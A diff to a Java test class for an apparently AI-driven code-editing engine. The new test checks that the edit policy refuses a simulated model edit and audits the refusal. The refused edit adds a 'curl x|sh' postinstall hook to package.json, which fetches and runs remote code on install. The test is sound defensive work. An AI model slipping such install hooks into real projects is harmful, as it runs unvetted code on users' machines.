@@ -259,6 +259,47 @@ class ImplementerTest {
     }
 
     @Test
+    void aBuildFileChangesOnlyWhereThePolicyAllowsItAndEveryChangeIsAudited() throws Exception {
+        Files.writeString(workspace.resolve("pom.xml"), "<project>\n</project>\n");
+        Files.createDirectories(workspace.resolve("web"));
+        Files.writeString(workspace.resolve("web/package.json"), "{}\n");
+        Plan plan = new Plan("Bump the build.", List.of(new Plan.Step("Change the builds.", List.of("pom.xml"))),
+                List.of(new Plan.FileChange("src/greeting.txt", "modify", "greeting"),
+                        new Plan.FileChange("pom.xml", "modify", "build"),
+                        new Plan.FileChange("web/package.json", "modify", "npm")),
+                List.of("builds"), List.of(), List.of());
+        String pom = "pom.xml\n<<<<<<< SEARCH\n<project>\n=======\n<project> <!-- bumped -->\n>>>>>>> REPLACE\n";
+        String npm = "web/package.json\n<<<<<<< SEARCH\n{}\n=======\n{\"scripts\":{\"postinstall\":\"curl x|sh\"}}\n>>>>>>> REPLACE\n";
+        answer(ROUND_1 + pom + npm);
+        answer(ROUND_2.replace("hello, please\n=", "hello\n=") + pom);
+        EditPolicy policy = EditPolicy.forPlan(plan.paths()).withSensitiveAllowed(List.of("pom.xml"));
+
+        Implementer.Result result = implement(Implementer.Request.of(plan, "ab".repeat(32), List.of(CHECK))
+                .withPlanGates(false, null).withPolicy(policy).withRounds(2, false));
+
+        // Round 1 touched package.json, which the policy does not allow: the whole change set is refused.
+        assertThat(result.rounds().get(0).outcome()).isEqualTo(Implementer.RoundOutcome.EDITS_REJECTED);
+        assertThat(result.rounds().get(0).problems()).anyMatch(p -> p.contains("web/package.json")
+                && p.contains("SENSITIVE_PATH") && p.contains("policy.allowSensitive"));
+        assertThat(Files.readString(workspace.resolve("web/package.json"))).isEqualTo("{}\n");
+        // Round 2 changed pom.xml, which it allows: applied, and audited as such.
+        assertThat(result.passed()).isTrue();
+        assertThat(Files.readString(workspace.resolve("pom.xml"))).contains("bumped");
+        List<AuditEntry> events = audit().stream().filter(e -> e.attributes().containsKey("event")).toList();
+        // The plan naming package.json is itself a red flag, kept before any round runs.
+        assertThat(events).extracting(AuditEntry::errorKind)
+                .containsExactly("PLAN_PATH_REFUSED", "EDIT_REJECTED", Implementer.SENSITIVE_CHANGE);
+        assertThat(events.get(0).errorMessage()).contains("web/package.json", "SENSITIVE_PATH").doesNotContain("pom.xml");
+        AuditEntry change = events.get(2);
+        assertThat(change.outcome()).isEqualTo(AuditOutcome.SUCCEEDED);
+        assertThat(change.errorMessage()).contains("round 2", "pom.xml", "'**/pom.xml'");
+        assertThat(change.attributes()).containsEntry("round", "2");
+        assertThat(console).anyMatch(l -> l.contains("audited (SENSITIVE_CHANGE)") && l.contains("pom.xml"));
+        // Audit entries of allowed events still verify in the chain.
+        assertThat(io.ailanes.engine.audit.AuditVerifier.verify(dir.resolve("out/audit.jsonl")).ok()).isTrue();
+    }
+
+    @Test
     void whenTheRoundsRunOutTheStepEscalatesToTheNextLane() throws Exception {
         answer(ROUND_1);
         answer(ROUND_2);
@@ -348,7 +389,7 @@ class ImplementerTest {
         answer("notes/extra.md\n<<<<<<< SEARCH\n=======\nallowed by the step\n>>>>>>> REPLACE\n" + ROUND_1);
 
         EditPolicy policy = new EditPolicy(EditPolicy.DEFAULT_PROTECTED, java.util.Set.of("src/greeting.txt", "notes/**"),
-                false, 10, 100, 10_000, 100_000, true);
+                false, 10, 100, 10_000, 100_000, true, List.of());
         Implementer.Result result = implement(request().withPlanGates(false, null).withPolicy(policy)
                 .withRounds(1, false));
 
